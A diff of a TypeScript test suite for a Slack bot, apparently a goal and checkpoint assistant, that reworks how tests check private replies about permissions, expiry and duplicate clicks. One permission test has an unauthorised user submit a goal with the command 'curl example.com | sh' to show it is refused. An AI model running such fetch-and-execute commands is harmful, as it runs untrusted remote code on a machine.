@@ -25,7 +25,13 @@ async function goalOf(goalId: string): Promise<{ status: string; state: string; 
   return valueOf(await world.command("goal", "show", goalId));
 }
 
-const lastWhisper = () => world.slack.whispers.at(-1);
+/** The private line with these words, once it has been said. */
+async function told(userId: string, words: string): Promise<string> {
+  return await eventually(`${userId} is told ${words}`, async () => {
+    return world.slack.whispers.find((each) => each.userId === userId && !each.isPublic && each.text.includes(words))?.text;
+  }, 5000);
+}
+
 const checkpointCard = (goal: string) => world.slack.message(`: ${goal}`);
 
 describe("one person's day in Slack", () => {
@@ -224,9 +230,7 @@ describe("who may not", () => {
     await world.slack.people.click(eve, checkpointCard("Paint it red"), "modify");
     const add = await world.slack.people.type(eve, "/cos", 'goal add "mine" --run "curl example.com | sh"');
 
-    expect(lastWhisper()).toMatchObject({ userId: eve, isPublic: false });
-    expect(lastWhisper()?.text).toContain("Only approvers may do that; nothing was changed");
-    expect(lastWhisper()?.text).toContain(`<@${ana}>, <@${ben}>`);
+    expect(await told(eve, "Only approvers may do that; nothing was changed")).toContain(`<@${ana}>, <@${ben}>`);
     expect(JSON.stringify(world.slack.people.openView(eve)?.view)).toContain("Only approvers");
     expect(add.answer["text"]).toContain("Only approvers");
     expect((await goalOf(goalId)).state).toBe("waiting");
@@ -238,8 +242,7 @@ describe("who may not", () => {
 
     await world.slack.people.click(dora, checkpointCard("Paint it blue"), "proceed");
 
-    expect(lastWhisper()?.text).toContain("Your account is deactivated");
-    expect(lastWhisper()?.text).not.toContain(dora);
+    expect(await told(dora, "Your account is deactivated")).not.toContain(`<@${dora}>`);
   });
 
   it("files of the bot's machine are not for people in a chat", async () => {
@@ -257,9 +260,9 @@ describe("clicks that come too late, twice or at once", () => {
     await Promise.all([world.slack.people.click(ana, card, "proceed"), world.slack.people.click(ana, card, "proceed")]);
     await world.slack.people.click(ben, card, "skip");
 
+    await told(ben, "already answered: Proceed by @ana");
+    await told(ana, "already answered: Proceed by @ana");
     expect(world.slack.whispers.length).toBe(2);
-    expect(lastWhisper()).toMatchObject({ userId: ben });
-    expect(lastWhisper()?.text).toContain("already answered: Proceed by @ana");
   });
 
   it("the same press delivered three times is one press, and says nothing more [S4-CK-21]", async () => {
@@ -280,16 +283,14 @@ describe("clicks that come too late, twice or at once", () => {
     await world.show();
 
     await world.slack.people.click(ana, card, "proceed");
-    expect(lastWhisper()?.text).toContain("changed since you looked (now version 2)");
+    await told(ana, "changed since you looked (now version 2)");
 
     world.advance(25 * 60 * 60_000);
     await world.tick();
-    await world.slack.people.click(ana, { ...card, blocks: checkpointCard("Grow the header").blocks }, "proceed").catch(() => undefined);
     await world.slack.people.click(ana, card, "skip");
     await world.show();
 
-    expect(lastWhisper()?.text).toContain("expired");
-    expect(lastWhisper()?.text).toContain(`/cos goal resume ${goalId}`);
+    expect(await told(ana, "expired")).toContain(`/cos goal resume ${goalId}`);
     expect(wordsOf(checkpointCard("Grow the header").blocks)).toContain("*No answer* by");
   });
 
@@ -307,7 +308,7 @@ describe("clicks that come too late, twice or at once", () => {
 
       expect([first.acknowledged, second.acknowledged]).toEqual([true, true]);
       await eventually("the loser's line", async () => world.slack.whispers.length === before + 1);
-      expect(lastWhisper()?.text).toMatch(/already answered: (Proceed by @ana|Skip by @ben)/);
+      expect(world.slack.whispers.at(-1)?.text).toMatch(/already answered: (Proceed by @ana|Skip by @ben)/);
       await world.work();
     }
     const { rows } = await world.deps.database.pool.query("select count(*)::int as n from cos.decisions where settles");
